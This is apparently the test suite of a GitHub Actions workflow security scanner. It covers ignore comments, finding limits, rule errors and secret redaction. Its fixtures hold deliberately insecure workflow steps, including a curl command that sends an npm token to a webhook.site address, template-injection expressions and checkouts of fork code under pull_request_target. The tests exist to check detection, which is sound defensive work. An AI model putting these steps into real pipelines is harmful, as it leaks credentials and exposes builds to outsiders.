import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type Facts, NO_FACTS } from '#lib/facts/facts.ts';
import { createRepository } from '#lib/workflow/repository.ts';
import { rules } from '../rules/index.ts';
import { scanRepository } from '../scan.ts';
import { defineRule, type Rule } from './rule.ts';
import { isInRuleset, RULESETS } from './rulesets.ts';
import type { ScanResult } from './scan.ts';

const PATH = '.github/workflows/ci.yml';

function workflow(steps: string): string {
  return `on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n${steps}`;
}

function scan(text: string, config?: string): ScanResult {
  const files = [{ path: PATH, text }];
  if (config !== undefined) files.push({ path: '.github/chainbreak.yml', text: config });
  return scanRepository(createRepository(files), { rules: rules.filter(({ id }) => id === 'unpinned-uses') });
}

function lines(result: ScanResult): (number | null)[] {
  return result.findings.map(({ line }) => line);
}

describe('an ignore comment', () => {
  it.each([
    ['on the line', '      - uses: acme/a@main # chainbreak: ignore[unpinned-uses] ours\n', 'ours'],
    ['on the line above', '      # chainbreak: ignore[unpinned-uses] ours\n      - uses: acme/a@main\n', 'ours'],
    [
      'among comments above',
      '      # chainbreak: ignore[unpinned-uses]\n      # more\n      - uses: acme/a@main\n',
      null,
    ],
    ['for several rules', '      - uses: acme/a@main # chainbreak: ignore[template-injection, unpinned-uses] x\n', 'x'],
    ['in zizmor’s form', '      - uses: acme/a@main # zizmor: ignore[unpinned-uses] from before\n', 'from before'],
  ])('suppresses a finding %s, which stays listed with the reason', (_, steps, reason) => {
    const result = scan(workflow(steps));
    expect(result.findings).toEqual([]);
    expect(result.suppressed).toMatchObject([{ by: 'comment', reason, finding: { ruleId: 'unpinned-uses' } }]);
  });

  it.each([
    ['for another rule', '      - uses: acme/a@main # chainbreak: ignore[template-injection]\n'],
    ['two lines above code', '      # chainbreak: ignore[unpinned-uses]\n      - run: x\n      - uses: acme/a@main\n'],
    ['inside a word', '      - uses: acme/a@main#chainbreak:ignore[unpinned-uses]\n'],
  ])('does not suppress %s', (_, steps) => {
    expect(scan(workflow(steps)).findings).toHaveLength(1);
  });

  it('without a rule, or with an unknown one, is a warning', () => {
    const { diagnostics, findings } = scan(
      workflow(
        '      - uses: acme/a@main # chainbreak: ignore\n      # chainbreak: ignore[no-such-rule]\n      - run: x\n',
      ),
    );
    expect(findings).toHaveLength(1);
    expect(diagnostics.map(({ line, message }) => [line, message])).toEqual([
      [6, 'An ignore comment names its rules: "# chainbreak: ignore[rule-id] reason".'],
      [7, 'There is no rule "no-such-rule" to ignore.'],
    ]);
  });

  it('beside `run:` suppresses findings inside the script', () => {
    const text = workflow(
      '      - run: | # chainbreak: ignore[template-injection] reviewed\n          a\n          echo ${{ github.event.head_commit.message }}\n',
    );
    const result = scanRepository(createRepository([{ path: PATH, text }]));
    expect(result.findings.map(({ ruleId }) => ruleId)).not.toContain('template-injection');
    expect(result.suppressed).toHaveLength(1);
  });
});

describe('a rule that finds more than is listed', () => {
  const uses = (count: number, comment = ''): string => `      - uses: acme/a@main${comment}\n`.repeat(count);

  it('has its first 200 findings listed, and a diagnostic says how many more there are', () => {
    const { findings, diagnostics, omitted } = scan(workflow(uses(250)));
    expect(findings).toHaveLength(200);
    expect(findings.at(-1)?.line).toBe(205);
    expect(omitted).toEqual([
      { ruleId: 'unpinned-uses', file: PATH, severity: findings[0]?.severity, count: 50, suppressed: false },
    ]);
    expect(diagnostics).toEqual([
      {
        file: PATH,
        line: null,
        column: null,
        severity: 'warning',
        message:
          '50 more findings are not listed: unpinned-uses (50). A scan lists at most 200 findings of a rule in a file and 10000 in all, the most severe first.',
      },
    ]);
  });

  it('lists all of as many as are allowed, and says nothing', () => {
    const { findings, diagnostics } = scan(workflow(uses(200)));
    expect(findings).toHaveLength(200);
    expect(diagnostics).toEqual([]);
  });

  it('cannot hide a finding behind suppressed ones', () => {
    const text = workflow(uses(250, ' # chainbreak: ignore[unpinned-uses] x') + uses(1));
    const { findings, suppressed, diagnostics } = scan(text);
    expect(findings.map(({ line }) => line)).toEqual([256]);
    expect(suppressed).toHaveLength(200);
    expect(diagnostics.map(({ message }) => message.split('.')[0])).toEqual([
      '50 more suppressed findings are not listed: unpinned-uses (50)',
    ]);
  });

  it('shares the limit of the scan with the others, which keeps the most severe of all files', () => {
    const files = Array.from({ length: 4 }, (_, index) => ({
      path: `.github/workflows/${index}.yml`,
      text: `on: pull_request_target\n${workflow(
        index === 3 ? '      - run: echo ${{ github.head_ref }}\n'.repeat(3) : uses(10),
      ).replace('on: push\n', '')}`,
    }));
    const { findings, omitted } = scanRepository(createRepository(files), {
      rules: rules.filter(({ id }) => id === 'unpinned-uses' || id === 'template-injection'),
      limits: { ofRuleInFile: 200, ofScan: 12 },
    });
    expect(findings).toHaveLength(12);
    expect(findings.filter(({ ruleId }) => ruleId === 'template-injection').map(({ severity }) => severity)).toEqual([
      'HIGH',
      'HIGH',
      'HIGH',
    ]);
    expect(omitted.reduce((sum, { count }) => sum + count, 0)).toBe(21);
  });
});

describe('.github/chainbreak.yml', () => {
  const steps = workflow('      - uses: acme/a@main\n');

  it.each([
    ['everywhere', 'ignore: [{ rule: unpinned-uses, reason: ours }]'],
    ['in a file', `ignore: [{ rule: unpinned-uses, path: ${PATH}, reason: ours }]`],
    ['in a folder', 'ignore: [{ rule: unpinned-uses, path: .github/workflows/, reason: ours }]'],
  ])('suppresses a rule %s', (_, config) => {
    const result = scan(steps, config);
    expect(result.findings).toEqual([]);
    expect(result.suppressed).toMatchObject([{ by: 'config', reason: 'ours' }]);
  });

  it.each([
    ['an unknown key', 'ignored: []', 1],
    ['a missing reason', 'ignore:\n  - rule: unpinned-uses\n', 2],
    ['a wrong type', 'ignore: yes', 1],
    ['broken YAML', 'ignore: [', 1],
  ])('with %s suppresses nothing and reports the place', (_, config, line) => {
    const result = scan(steps, config);
    expect(lines(result)).toEqual([6]);
    expect(result.diagnostics[0]).toMatchObject({ file: '.github/chainbreak.yml', line, severity: 'error' });
  });

  it('naming an unknown rule is a warning', () => {
    expect(scan(steps, 'ignore: [{ rule: nope, reason: x }]').diagnostics).toMatchObject([{ severity: 'warning' }]);
  });
});

describe('scanRepository', () => {
  const broken: Rule = defineRule({
    ...(rules.find(({ id }) => id === 'unpinned-uses') as Rule),
    id: 'broken-rule',
    check: {
      // oxlint-disable-next-line require-yield
      *workflow() {
        throw new Error('boom');
      },
    },
  });

  it('continues after a rule throws, and reports it as not assessed', () => {
    const repository = createRepository([{ path: PATH, text: workflow('      - uses: acme/a@main\n') }]);
    const result = scanRepository(repository, { rules: [broken, ...rules.filter(({ id }) => id === 'unpinned-uses')] });
    expect(lines(result)).toEqual([6]);
    expect(result.notAssessed).toContainEqual({ ruleId: 'broken-rule', reason: 'rule_error' });
    expect(result.diagnostics).toMatchObject([
      { file: PATH, severity: 'error', message: 'The rule broken-rule failed here: boom' },
    ]);
  });

  it('lists the unassessed rules with the reason', () => {
    const repository = createRepository([{ path: PATH, text: workflow('      - run: x\n') }]);
    const { notAssessed } = scanRepository(repository, { disabledRules: new Set(['unpinned-uses']) });
    expect(notAssessed).toContainEqual({ ruleId: 'unpinned-uses', reason: 'disabled' });
    const offline = rules
      .filter(({ meta }) => meta.needs !== undefined)
      .map(({ id }) => ({ ruleId: id, reason: 'offline' }));
    expect(notAssessed).toEqual(expect.arrayContaining(offline));
    expect(notAssessed).toHaveLength(offline.length + 1);
  });

  it('runs the offline part of a rule, and still reports it as not assessed', () => {
    const repository = createRepository([
      { path: PATH, text: workflow('      - uses: eskatos/gradle-command-action@v1\n') },
    ]);
    const jacking = rules.filter(({ id }) => id === 'repo-jacking') as [Rule];
    const result = scanRepository(repository, { rules: jacking });
    expect(result.findings.map(({ message }) => message)).toEqual(['moved']);
    expect(result.notAssessed).toEqual([{ ruleId: 'repo-jacking', reason: 'offline' }]);
    const failing = { ...broken, meta: { ...jacking[0].meta } };
    expect(scanRepository(repository, { rules: [failing] }).notAssessed).toEqual([
      { ruleId: 'broken-rule', reason: 'rule_error' },
    ]);
    const off = scanRepository(repository, { rules: jacking, disabledRules: new Set(['repo-jacking']) });
    expect(off.findings).toEqual([]);
  });

  it('lists failed lookups by rule and by action', () => {
    const repository = createRepository([{ path: PATH, text: workflow('      - uses: acme/a@v1\n') }]);
    const unread = [
      { what: 'network', name: 'acme/a', reason: 'rate_limited' },
      { what: 'commits', name: 'acme/b@1', reason: 'offline' },
    ] as const;
    const facts: Facts = { ...NO_FACTS, network: { value: { actions: new Map(), unread } } };
    const { notAssessed, diagnostics } = scanRepository(repository, { facts });
    expect(notAssessed).toContainEqual({ ruleId: 'ref-confusion', reason: 'rate_limited' });
    expect(notAssessed).toContainEqual({ ruleId: 'low-score-action', reason: 'offline' });
    expect(diagnostics.map(({ file, severity, message }) => [file, severity, message])).toEqual([
      ['.', 'warning', 'The code host did not tell all about the actions used (rate_limited): acme/a.'],
      ['.', 'warning', 'The code host did not tell all about the actions used (offline): acme/b@1.'],
    ]);
    const whole = scanRepository(repository, { facts: { ...NO_FACTS, network: { value: { actions: new Map() } } } });
    expect(whole.notAssessed.map(({ ruleId }) => ruleId)).not.toContain('ref-confusion');
    expect(whole.diagnostics).toEqual([]);
  });

  it('lists packages with failed lookups, and reports the others', () => {
    const repository = createRepository([{ path: PATH, text: workflow('      - run: npm publish\n') }]);
    const version = {
      registry: 'npm',
      name: 'a',
      version: '1.0.0',
      provenance: false,
      sources: new Set<string>(),
    } as const;
    const unread = [{ what: 'published', name: 'npm b', reason: 'rate_limited' }] as const;
    const published = { value: { versions: new Map([[PATH, [version]]]), unread } };
    const { findings, notAssessed, diagnostics } = scanRepository(repository, { facts: { ...NO_FACTS, published } });
    const ruleId = 'published-version-missing-provenance';
    expect(findings.filter((each) => each.ruleId === ruleId)).toMatchObject([
      { confidence: 'medium', severity: 'LOW' },
    ]);
    expect(notAssessed).toContainEqual({ ruleId, reason: 'rate_limited' });
    expect(diagnostics.map(({ message }) => message)).toEqual([
      'It is not known of all packages published whether they show provenance (rate_limited): npm b.',
    ]);
    const known = { ...NO_FACTS, published: { value: { versions: new Map() } } };
    expect(scanRepository(repository, { facts: known }).notAssessed.map((each) => each.ruleId)).not.toContain(ruleId);
  });

  it('gives the same result whatever the order of the files', () => {
    const files = ['a', 'b', 'c'].map((name) => ({
      path: `.github/workflows/${name}.yml`,
      text: workflow(`      - uses: acme/${name}@main\n      - uses: acme/x@v1\n`),
    }));
    const expected = scanRepository(createRepository(files));
    fc.assert(
      fc.property(fc.shuffledSubarray(files, { minLength: 3 }), (shuffled) => {
        expect(scanRepository(createRepository(shuffled))).toEqual(expected);
      }),
    );
  });

  it('never copies a credential into a finding', () => {
    const secret = ['gh', 'p_', 'a1B2c3D4e5F6g7H8i9J0'.repeat(2).slice(0, 36)].join('');
    const text = workflow(
      `      - uses: acme/a@main # ${secret}\n      - run: echo ${secret} \${{ github.event.head_commit.message }}\n`,
    );
    const result = scanRepository(createRepository([{ path: PATH, text }]));
    expect(result.findings.length).toBeGreaterThan(1);
    const { fix: _, ...visible } = result.findings[0] ?? { fix: undefined };
    expect(
      JSON.stringify([
        visible,
        result.findings.map(({ snippet, description }) => [snippet, description]),
        result.diagnostics,
      ]),
    ).not.toContain(secret);
  });
});

describe('rulesets', () => {
  it('levels include the ones below them, and slsa is the union of both tracks', () => {
    const members = (ruleset: (typeof RULESETS)[number]): Set<string> =>
      new Set(rules.filter((rule) => isInRuleset(rule, ruleset)).map(({ id }) => id));
    const includes = (larger: Set<string>, smaller: Set<string>): boolean => [...smaller].every((id) => larger.has(id));
    expect(includes(members('slsa-build-l3'), members('slsa-build-l2'))).toBe(true);
    expect(includes(members('slsa-build-l2'), members('slsa-build-l1'))).toBe(true);
    expect(includes(members('slsa-source-l4'), members('slsa-source-l3'))).toBe(true);
    expect(members('slsa')).toEqual(new Set([...members('slsa-build-l3'), ...members('slsa-source-l4')]));
    expect(members('all').size).toBe(rules.length);
  });
});

it('lists the jobs that do not use a shared permission, per scope', () => {
  const text = `on: push
permissions: { contents: write, id-token: write }
jobs:
  test: { runs-on: ubuntu-latest, steps: [{ run: npm test }] }
  publish: { runs-on: ubuntu-latest, steps: [{ run: npm publish }] }
`;
  const only = rules.filter(({ id }) => id === 'excessive-permissions');
  const { findings } = scanRepository(createRepository([{ path: PATH, text }]), { rules: only });
  expect(findings.map(({ description }) => description)).toEqual([
    expect.stringContaining('contents in the jobs test, publish; id-token in the job test.'),
  ]);
});

it.each([
  [['actions/checkout@v5', 'Actions/Checkout@v4'], 'use one action from other repositories, and no bot updates them.'],
  [
    ['actions/checkout@v5', `actions/checkout@${'a'.repeat(40)}`, 'github/codeql-action/init@v4'],
    'use 2 actions from other repositories, and no bot updates them, although one of them is pinned to a commit.',
  ],
  [[`actions/checkout@${'a'.repeat(40)}`], 'and no bot updates them, although it is pinned to a commit.'],
])('counts actions that no bot updates once: %j', (used, text) => {
  const steps = used.map((name) => `      - uses: ${name}\n`).join('');
  const only = rules.filter(({ id }) => id === 'missing-dependency-updates');
  const { findings } = scanRepository(createRepository([{ path: PATH, text: workflow(steps) }]), { rules: only });
  expect(findings.map(({ description }) => description)).toEqual([expect.stringContaining(text)]);
});

it('counts each place that reads a stored token', () => {
  const text = workflow(`      - uses: actions/checkout@v4
        with: { token: "\${{ secrets.PAT }}" }
      - run: ./\${{ secrets.PAT }}/\${{ secrets.pat }}
        env: { OTHER: "\${{ secrets.PAT || github.token }}", MORE: "\${{ secrets.PAT_2 }}" }
`);
  const only = rules.filter(({ id }) => id === 'long-lived-credentials');
  const { findings } = scanRepository(createRepository([{ path: PATH, text }]), { rules: only });
  expect(findings.map(({ description }) => description)).toEqual([
    expect.stringContaining('PAT is used in 3 places, here for actions/checkout'),
  ]);
});

it('copies related places into findings, and adds the trigger through which outsiders come', () => {
  const text =
    'on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4.2.2\n        with: { ref: "${{ github.event.pull_request.head.sha }}" }\n      - run: npm ci && npm test\n';
  const chosen = rules.filter(({ id }) => id === 'untrusted-checkout-exec');
  const [finding] = scanRepository(createRepository([{ path: PATH, text }]), { rules: chosen }).findings;
  expect(finding?.related).toMatchObject([
    { file: PATH, line: 7, note: 'the fork’s code is checked out here' },
    { file: PATH, line: 1, note: 'outsiders start the run with this', snippet: 'on: pull_request_target' },
  ]);
});

it.each([
  ['the job try of try.yml', 'try.yml', 'release.yml'],
  ['the job try runs', 'release.yml', 'release.yml'],
])('says which file has the job that fills a cache, if it is another: %s', (text, filler, reader) => {
  const filling =
    '  try:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v7\n        with: { ref: "refs/pull/${{ inputs.number }}/head" }\n      - { uses: actions/cache@v4, with: { path: a, key: b } }\n      - run: npm ci && npm test\n';
  const reading =
    '  release:\n    runs-on: ubuntu-latest\n    steps:\n      - { uses: actions/cache@v4, with: { path: a, key: b } }\n      - run: npm publish\n';
  const on = 'on: { workflow_dispatch: { inputs: { number: {} } } }\njobs:\n';
  const jobs: Record<string, string> = {};
  jobs[filler] = filling;
  jobs[reader] = `${jobs[reader] ?? ''}${reading}`;
  const files = Object.entries(jobs).map(([name, body]) => ({
    path: `.github/workflows/${name}`,
    text: `${on}${body}`,
  }));
  const chosen = rules.filter(({ id }) => id === 'cache-poisoning');
  const { findings } = scanRepository(createRepository(files), { rules: chosen });
  expect(findings.map(({ description }) => description).join('\n')).toContain(text);
});

it('separates a clause that only some findings have from the word before it', () => {
  const model = rules.find(({ id }) => id === 'unpinned-uses') as Rule;
  const rule = defineRule({
    ...model,
    id: 'a-clause',
    meta: { ...model.meta, messages: { all: 'It is installed on{{where}}{{name}}-x.' } },
    check: {
      *workflow(file) {
        yield { message: 'all', data: { where: ' at acme ', name: '' }, at: file, span: file.root.span };
        yield { message: 'all', data: { where: '', name: 'b' }, at: file, span: file.root.span };
      },
    },
  });
  const repository = createRepository([{ path: PATH, text: workflow('      - run: make\n') }]);
  const { findings } = scanRepository(repository, { rules: [rule] });
  expect(findings.map(({ description }) => description)).toEqual([
    'It is installed on at acme-x.',
    'It is installed onb-x.',
  ]);
});

it('names secrets in upper case in every text, however the file spells them', () => {
  const text = `on: push
permissions: { contents: write }
jobs:
  publish:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with: { token: "\${{ secrets.npm_token }}" }
      - uses: actions/upload-artifact@v4
        with: { path: ., include-hidden-files: true }
      - run: echo "\${{ secrets.npm_token }}"
      - run: curl -d "\${{ secrets.npm_token }}" https://webhook.site/0b1c
      - run: echo "\${{ secrets.npm_token }}" > key.txt
      - uses: actions/upload-artifact@v4
        with: { path: key.txt }
      - run: npm publish
        env: { NODE_AUTH_TOKEN: "\${{ secrets.npm_token }}", USER: "\${{ fromJSON(secrets.npm_token).user }}" }
  call:
    uses: ./.github/workflows/called.yml
    secrets: inherit
`;
  const called =
    'on: workflow_call\njobs:\n  a: { runs-on: ubuntu-latest, steps: [{ run: "make ${{ secrets.npm_token }}" }] }\n';
  const files = [
    { path: PATH, text },
    { path: '.github/workflows/called.yml', text: called },
  ];
  const { findings } = scanRepository(createRepository(files));
  const naming = findings.filter(({ description }) => /npm_token/i.test(description));
  expect(naming.filter(({ description }) => description.includes('npm_token'))).toEqual([]);
  expect([...new Set(naming.map(({ ruleId }) => ruleId))].sort()).toEqual([
    'artipacked',
    'long-lived-credentials',
    'secret-exfiltration',
    'secret-in-log',
    'secrets-in-artifacts',
    'secrets-inherit',
    'secrets-outside-env',
    'unredacted-secrets',
    'use-trusted-publishing',
    'workflow-env-secrets',
  ]);
});

describe('hooks', () => {
  const text = [
    'on: push',
    'jobs:',
    '  build:',
    "    if: github.ref == 'refs/heads/main'",
    '    runs-on: ubuntu-latest',
    '    steps:',
    '      - run: make',
    '        if: always()',
    '      - uses: acme/a@v1',
    '      - run: make test',
    '',
  ].join('\n');
  const action =
    'name: a\nruns:\n  using: composite\n  steps:\n    - run: make\n      if: always()\n      shell: bash\n';
  const repository = createRepository([
    { path: PATH, text },
    { path: '.github/actions/a/action.yml', text: action },
  ]);
  const base = rules.find(({ id }) => id === 'obfuscation');

  function linesOf(check: Rule['check'], when?: Rule['when']): string[] {
    const rule = { ...(base as Rule), check, ...(when === undefined ? {} : { when }) };
    const { findings } = scanRepository(repository, { rules: [rule] });
    return findings.map(({ file, line }) => `${file}:${line}`).sort();
  }

  it('for scripts see each step that runs one, in workflows and actions', () => {
    const run: Rule['check'] = {
      *run(step) {
        yield { message: 'x', at: step, span: step.run.span };
      },
    };
    expect(linesOf(run)).toEqual(['.github/actions/a/action.yml:5', `${PATH}:10`, `${PATH}:7`]);
  });

  it('for conditions see each job and step that has one', () => {
    const condition: Rule['check'] = {
      *condition(node) {
        yield { message: 'x', at: node, span: node.condition.span };
      },
    };
    expect(linesOf(condition)).toEqual(['.github/actions/a/action.yml:6', `${PATH}:4`, `${PATH}:8`]);
  });

  it('are not called for a file that the rule says it finds nothing in', () => {
    const step: Rule['check'] = {
      *step(found) {
        yield { message: 'x', at: found, span: found.span };
      },
    };
    expect(linesOf(step, ({ definition }) => definition.kind === 'action')).toEqual(['.github/actions/a/action.yml:5']);
  });
});
